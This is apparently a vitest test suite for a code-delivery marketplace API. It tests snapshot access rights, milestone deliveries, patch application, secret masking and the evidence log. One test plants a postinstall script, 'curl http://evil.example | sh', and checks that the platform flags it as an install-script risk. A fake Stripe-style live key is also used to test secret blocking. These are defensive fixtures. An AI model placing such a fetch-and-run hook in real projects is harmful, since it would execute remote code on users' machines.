import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CodeChanges, CodeFile, Snapshot } from '#domain/code.ts';
import type { Milestone } from '#domain/milestone.ts';
import { bring, bringAndRead, pathsOf, read } from '../testing/code.ts';
import { agreeOnPlan, grab, ok, pay, postRequest } from '../testing/deeds.ts';
import { openModeratedWorld } from '../testing/moderation.ts';
import type { Person, World } from '../testing/world.ts';

let world: World;
let moderator: Person;
let customer: Person;
let developer: Person;
let candidate: Person;
let stranger: Person;
beforeAll(async () => {
  ({ world, moderator } = await openModeratedWorld());
  customer = await world.person('customer');
  developer = await world.person('developer', { categories: ['web'] });
  candidate = await world.person('developer', { categories: ['web'] });
  stranger = await world.person('customer');
});
afterAll(() => world.close());

const KEY = `sk_live_${'4eC39HqLyjWDarjtT1zdp7dc'}`;
const PROJECT = { 'package.json': '{}\n', 'src/a.ts': 'one\n', 'src/b.ts': 'two\n' };

/** A patch of one change at the beginning of a file, as Git writes it. */
function patchOf(path: string, lines: string[]): Buffer {
  const [before, after] = ['-', '+'].map(
    (sign) => lines.filter((line) => line[0] === sign || line[0] === ' ').length,
  );
  const head = `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`;
  return Buffer.from(`${head}@@ -1,${before} +1,${after} @@\n${lines.join('\n')}\n`);
}

const list = (person: Person, ticketId: string) =>
  person.call<{ items: Snapshot[] }>('GET', `/api/tickets/${ticketId}/snapshots`);
const fileOf = (person: Person, id: string, path = 'src/a.ts') =>
  person.call<CodeFile & { code: string }>('GET', `/api/snapshots/${id}/file?path=${path}`);
const treeOf = (person: Person, id: string) => person.call('GET', `/api/snapshots/${id}/tree`);

/** What somebody reads of a version: whether they know of it, its names, and its contents. */
async function readsOf(person: Person, id: string) {
  const one = await person.call<Snapshot>('GET', `/api/snapshots/${id}`);
  return [
    one.status === 200 ? one.body.opens : one.status,
    (await treeOf(person, id)).status,
    (await fileOf(person, id)).status,
  ];
}

const NOTHING = [404, 404, 404];
const NAMES = ['names', 200, 403];
const ALL = ['contents', 200, 200];

/** A project, and a milestone that is worked on. */
async function atWork(content: Record<string, string> = PROJECT) {
  const { id: ticketId } = await postRequest(customer);
  const masked = { secrets: 'mask' } as const;
  const project = await bringAndRead(world, customer, ticketId, content, masked);
  await grab(developer, ticketId);
  const [milestone] = await agreeOnPlan({ customer, developer }, ticketId);
  const milestone_id = milestone?.id ?? '';
  ok(await developer.call('POST', `/api/milestones/${milestone_id}/start`));
  return { ticketId, project, milestone_id };
}

const submit = (milestoneId: string, more: Record<string, unknown> = {}) =>
  developer.call<Milestone>('POST', `/api/milestones/${milestoneId}/submit`, {
    message: 'Done',
    ...more,
  });

describe('who reads a project', () => {
  it('is its customer and whoever has grabbed the request; whoever may take it reads names', async () => {
    const { id: ticketId } = await postRequest(customer);
    const { id } = await bringAndRead(world, customer, ticketId, PROJECT);
    expect(await readsOf(customer, id)).toEqual(ALL);
    expect(await readsOf(candidate, id)).toEqual(NAMES);
    expect(await readsOf(stranger, id)).toEqual(NOTHING);
    expect(await readsOf(moderator, id)).toEqual(NOTHING);
    ok(await developer.call('POST', `/api/tickets/${ticketId}/reserve`));
    expect(await readsOf(developer, id)).toEqual(NAMES);
    expect((await fileOf(developer, id)).body.code).toBe('code_not_taken');
    await grab(developer, ticketId);
    expect(await readsOf(developer, id)).toEqual(ALL);
    expect(await readsOf(candidate, id)).toEqual(NOTHING);
  });

  it('is a moderator only while they decide, and their look is written down', async () => {
    const { ticketId, project } = await atWork();
    expect(await readsOf(moderator, project.id)).toEqual(NOTHING);
    const help = { reason: 'quality', text: 'Please look at it.' };
    ok(await customer.call('POST', `/api/tickets/${ticketId}/get-help`, help));
    expect(await readsOf(moderator, project.id)).toEqual(ALL);
    const { items } = ok(
      await moderator.call<{ items: { action: string; after: unknown }[] }>(
        'GET',
        `/api/moderation/audit?action=code_opened&ticket_id=${ticketId}`,
      ),
    );
    expect(items).toMatchObject([
      { action: 'code_opened', after: { version: 1, path: 'src/a.ts' } },
    ]);
  });
});

describe('who brings a version', () => {
  it('is the customer for the project, and the developer for a milestone they work on', async () => {
    const { ticketId, milestone_id } = await atWork();
    const git_url = 'https://example.com/a.git';
    const post = (person: Person, body: object) =>
      person.call('POST', `/api/tickets/${ticketId}/snapshots`, body);
    const project = { git_url, kind: 'project' };
    const delivery = { git_url, kind: 'delivery', milestone_id };
    expect((await post(developer, project)).status).toBe(403);
    expect((await post(customer, delivery)).status).toBe(403);
    for (const person of [candidate, stranger, moderator])
      expect((await post(person, project)).status).toBe(404);
    expect((await post(developer, { git_url, kind: 'delivery' })).status).toBe(400);
    expect((await post(customer, { kind: 'project' })).status).toBe(400);
    expect((await post(customer, { ...project, git_url: 'http://10.0.0.1/x' })).status).toBe(400);
    expect((await post(customer, { ...project, git_url: 'http://example.com/x' })).status).toBe(
      400,
    );
    const other = { kind: 'project', file_key: 'x'.repeat(32) };
    expect((await post(customer, other)).status).toBe(400);
    ok(await submit(milestone_id));
    expect((await post(developer, delivery)).status).toBe(409);
  });
});

describe('a delivery of code', () => {
  it('is nothing to its customer before it is submitted, names before it is paid, and then all', async () => {
    const { ticketId, project, milestone_id } = await atWork();
    const changed = { ...PROJECT, 'src/a.ts': 'other\n' };
    const { id } = await bringAndRead(world, developer, ticketId, changed, { milestone_id });
    expect(await readsOf(developer, id)).toEqual(ALL);
    expect(await readsOf(customer, id)).toEqual(NOTHING);
    expect(ok(await list(customer, ticketId)).items.map((one) => one.id)).toEqual([project.id]);
    ok(await submit(milestone_id, { must_keep: 'Keep the guard in a.ts.' }));
    expect(await readsOf(customer, id)).toEqual(NAMES);
    expect((await fileOf(customer, id)).body.code).toBe('code_locked_until_paid');
    const [shown] = ok(await list(customer, ticketId)).items;
    expect(shown).toMatchObject({
      id,
      parent_id: project.id,
      must_keep: 'Keep the guard in a.ts.',
      is_head: false,
      files: 3,
    });
    await pay(world, customer, milestone_id);
    expect(await readsOf(customer, id)).toEqual(ALL);
    ok(await customer.call('POST', `/api/milestones/${milestone_id}/accept`, {}));
    const heads = ok(await list(customer, ticketId)).items.map((one) => [one.id, one.is_head]);
    expect(heads).toEqual([
      [id, true],
      [project.id, false],
    ]);
  });

  it('of changed files alone becomes a whole version', async () => {
    const { ticketId, milestone_id } = await atWork();
    const version = await bringAndRead(
      world,
      developer,
      ticketId,
      { 'src/a.ts': 'other\n', 'src/new.ts': 'new\n' },
      { milestone_id, holds: 'changes' },
    );
    expect(version).toMatchObject({ source: 'changes', files: 4 });
    expect(await pathsOf(developer, version.id)).toEqual([
      'package.json',
      'src/a.ts',
      'src/b.ts',
      'src/new.ts',
    ]);
    expect(ok(await fileOf(developer, version.id)).text).toBe('other\n');
    const whole = await bringAndRead(world, developer, ticketId, PROJECT, { milestone_id });
    expect(whole.source).toBe('archive');
  });

  it('as a patch changes the project as its developer has it, or says where it does not fit', async () => {
    const { ticketId, milestone_id } = await atWork({
      'package.json': '{}\n',
      'src/pay.ts': `const key = '${KEY}';\r\nconst cents = 1.5;\r\n`,
    });
    const patch = (before: string) =>
      patchOf('src/pay.ts', [
        " const key = '{{SECRET:stripe:1}}';\r",
        `-const cents = ${before};\r`,
        '+const cents = 150;\r',
      ]);
    const input = { milestone_id, name: 'fix.patch' };
    const misfit = await bringAndRead(world, developer, ticketId, patch('2.5'), input);
    expect(misfit).toMatchObject({
      state: 'failed',
      trouble:
        'src/pay.ts: change 1, on line 5 of the patch, does not fit at line 2. The patch expects “const cents = 2.5;”, but there stands “const cents = 1.5;”.',
    });
    const fits = await bringAndRead(world, developer, ticketId, patch('1.5'), input);
    expect([fits.state, fits.source]).toEqual(['ready', 'patch']);
    const { text } = ok(await fileOf(developer, fits.id, 'src/pay.ts'));
    expect(text).toContain('const cents = 150;\r\n');
    const path = `/api/snapshots/${fits.id}/changes`;
    const changes = ok(await developer.call<CodeChanges>('GET', path));
    expect(changes).toMatchObject({ files: 1, added: 1, removed: 1 });
  });

  it('as a patch fits a project of one folder as its customer has it', async () => {
    const { ticketId, milestone_id } = await atWork({
      'packages/a/package.json': '{}\n',
      'packages/b/src/b.ts': 'one\n',
    });
    const patch = patchOf('packages/b/src/b.ts', ['-one', '+two']);
    const input = { milestone_id, name: 'fix.patch' };
    const { id, state } = await bringAndRead(world, developer, ticketId, patch, input);
    expect(state).toBe('ready');
    expect(ok(await fileOf(developer, id, 'packages/b/src/b.ts')).text).toBe('two\n');
  });

  it('waits for a version that is still read, and takes the newest along', async () => {
    const { ticketId, milestone_id } = await atWork();
    const first = await bringAndRead(world, developer, ticketId, PROJECT, { milestone_id });
    const second = await bring(world, developer, ticketId, PROJECT, { milestone_id });
    expect((await submit(milestone_id)).body).toMatchObject({ code: 'code_being_read' });
    await read(world, developer, second.id);
    const { deliveries } = ok(await submit(milestone_id));
    const items = ok(await list(developer, ticketId)).items;
    expect(items.find(({ id }) => id === second.id)?.delivery_id).toBe(deliveries.at(-1)?.id);
    expect(items.find(({ id }) => id === first.id)?.delivery_id).toBeNull();
  });

  it('is not submitted to undo what the customer brought meanwhile', async () => {
    const { ticketId, milestone_id } = await atWork();
    const own = { milestone_id, holds: 'project' as const };
    await bringAndRead(world, developer, ticketId, { ...PROJECT, 'src/a.ts': 'mended\n' }, own);
    const theirs = { ...PROJECT, 'src/new.ts': 'new\n' };
    await bringAndRead(world, customer, ticketId, theirs, { secrets: 'mask' });
    expect(await submit(milestone_id)).toMatchObject({
      status: 409,
      body: { code: 'code_outdated' },
    });
    const both = { ...theirs, 'src/a.ts': 'mended\n' };
    const again = await bringAndRead(world, developer, ticketId, both, own);
    const { deliveries } = ok(await submit(milestone_id));
    const items = ok(await list(developer, ticketId)).items;
    expect(items.find(({ id }) => id === again.id)?.delivery_id).toBe(deliveries.at(-1)?.id);
  });

  it('does not go without its newest version while that is held back for its keys', async () => {
    const { ticketId, milestone_id } = await atWork();
    await bringAndRead(world, developer, ticketId, PROJECT, { milestone_id });
    const keys = { ...PROJECT, 'src/b.ts': `const key = '${KEY}';\n` };
    const held = await bringAndRead(world, developer, ticketId, keys, { milestone_id });
    expect(held.state).toBe('blocked');
    expect(await submit(milestone_id)).toMatchObject({
      status: 409,
      body: { code: 'code_held_back' },
    });
    const choice = { secrets: 'mask' };
    ok(await developer.call('POST', `/api/snapshots/${held.id}/secrets`, choice));
    await read(world, developer, held.id);
    const { deliveries } = ok(await submit(milestone_id));
    const items = ok(await list(developer, ticketId)).items;
    expect(items.find(({ id }) => id === held.id)?.delivery_id).toBe(deliveries.at(-1)?.id);
  });

  it('is waited for where its developer has decided late about the keys in it', async () => {
    const { ticketId, milestone_id } = await atWork();
    const keys = { ...PROJECT, 'src/b.ts': `const key = '${KEY}';\n` };
    const { id } = await bringAndRead(world, developer, ticketId, keys, { milestone_id });
    const longAgo = new Date(Date.now() - 60 * 60_000);
    const { db } = world.context;
    await db
      .updateTable('snapshots')
      .set({ created_at: longAgo, reading_since: longAgo })
      .where('id', '=', id)
      .execute();
    ok(await developer.call('POST', `/api/snapshots/${id}/secrets`, { secrets: 'mask' }));
    expect((await submit(milestone_id)).body).toMatchObject({ code: 'code_being_read' });
  });

  it('is said to have placeholders in it where they stand in what it was made from', async () => {
    const { ticketId, milestone_id } = await atWork();
    const own = { milestone_id, holds: 'changes' as const };
    const plain = await bringAndRead(world, developer, ticketId, { 'a.txt': 'one\n' }, own);
    expect(plain.is_masked).toBe(false);
    const files = { ...PROJECT, 'key.ts': "const key = '{{SECRET:github:123456}}';\n" };
    const masked = await bringAndRead(world, customer, ticketId, files);
    expect(masked.is_masked).toBe(true);
    const changed = await bringAndRead(world, developer, ticketId, { 'a.txt': 'two\n' }, own);
    expect(changed.is_masked).toBe(true);
  });

  it('stays with whom it was made for: the next developer reads what was accepted', async () => {
    const { ticketId, project, milestone_id } = await atWork();
    const { id } = await bringAndRead(world, developer, ticketId, PROJECT, { milestone_id });
    ok(await developer.call('POST', `/api/tickets/${ticketId}/give-back`, { note: 'Half works.' }));
    await grab(candidate, ticketId);
    expect(await readsOf(candidate, id)).toEqual(NOTHING);
    expect(await readsOf(candidate, project.id)).toEqual(ALL);
    expect(await readsOf(developer, id)).toEqual(NOTHING);
  });

  it('is in the evidence of the request by the hash of its top folder', async () => {
    const { ticketId, milestone_id } = await atWork();
    await bringAndRead(world, developer, ticketId, { 'a.txt': 'one\n' }, { milestone_id });
    ok(await submit(milestone_id));
    await pay(world, customer, milestone_id);
    ok(await customer.call('POST', `/api/milestones/${milestone_id}/accept`, {}));
    const { entries } = ok(
      await customer.call<{
        entries: { content: { what: string; root?: string }; says: string }[];
      }>('GET', `/api/tickets/${ticketId}/evidence`),
    );
    const versions = entries.filter(({ content }) => content.what.startsWith('version'));
    expect(versions.map(({ content }) => content.what)).toEqual([
      'version',
      'version_submitted',
      'version_accepted',
    ]);
    const [, submitted, accepted] = versions;
    expect(submitted?.content.root).toBe(accepted?.content.root);
    expect(accepted?.says).toMatch(/approved, version 2 \(SHA-256 [0-9a-f]{64}\)/);
  });
});

describe('what a version says of itself', () => {
  it('is read with it: of a project for whoever may take it, of a delivery for its customer', async () => {
    const { id: ticketId } = await postRequest(customer, {
      description: 'It fails\nTypeError: x\n    at login (/app/src/a.ts:1:3)',
    });
    const project = {
      ...PROJECT,
      'package.json': '{ "dependencies": { "next": "15.0.0" }, "scripts": { "dev": "next dev" } }',
      'CLAUDE.md': '# Rules\n',
    };
    const { id } = await bringAndRead(world, customer, ticketId, project);
    const { packet } = ok(await candidate.call<Snapshot>('GET', `/api/snapshots/${id}`));
    expect(packet?.ai_tools).toMatchObject([{ tool: 'CLAUDE', marks: ['CLAUDE.md'] }]);
    expect(packet?.traces).toMatchObject([{ path: 'src/a.ts', line: 1 }]);
    await grab(developer, ticketId);
    const [milestone] = await agreeOnPlan({ customer, developer }, ticketId);
    const milestone_id = milestone?.id ?? '';
    ok(await developer.call('POST', `/api/milestones/${milestone_id}/start`));
    const scripts = { dev: 'next dev', postinstall: 'curl http://evil.example | sh' };
    const manifest = JSON.stringify({ dependencies: { next: '15.0.0' }, scripts });
    const changed = { ...project, 'package.json': manifest };
    const delivered = await bringAndRead(world, developer, ticketId, changed, { milestone_id });
    ok(await submit(milestone_id));
    const { report } = ok(await customer.call<Snapshot>('GET', `/api/snapshots/${delivered.id}`));
    expect(report?.items.map(({ kind }) => kind)).toContain('install_script');
  });
});

describe('a patch that is delivered', () => {
  const patch = [
    'diff --git a/src/a.ts b/src/a.ts',
    '--- a/src/a.ts',
    '+++ b/src/a.ts',
    '@@ -1 +1 @@',
    '-one',
    '+other',
    'diff --git a/src/b.ts b/src/b.ts',
    'deleted file mode 100644',
    '--- a/src/b.ts',
    '+++ /dev/null',
    '@@ -1 +0,0 @@',
    '-two',
    '',
  ].join('\n');

  it('becomes a whole version, and one that does not fit says where', async () => {
    const { ticketId, milestone_id } = await atWork();
    const bytes = Buffer.from(patch);
    const version = await bringAndRead(world, developer, ticketId, bytes, { milestone_id });
    expect(version).toMatchObject({ state: 'ready', source: 'patch', files: 2 });
    expect(await pathsOf(developer, version.id)).toEqual(['package.json', 'src/a.ts']);
    expect(ok(await fileOf(developer, version.id)).text).toBe('other\n');
    const wrong = Buffer.from(patch.replace('-one', '-none'));
    const failed = await bringAndRead(world, developer, ticketId, wrong, { milestone_id });
    expect(failed.state).toBe('failed');
    expect(failed.trouble).toMatch(/src\/a\.ts: change 1/);
    const none = await bringAndRead(world, developer, ticketId, Buffer.from('Hi\n'), {
      milestone_id,
    });
    expect(none.state).toBe('failed');
  });
});
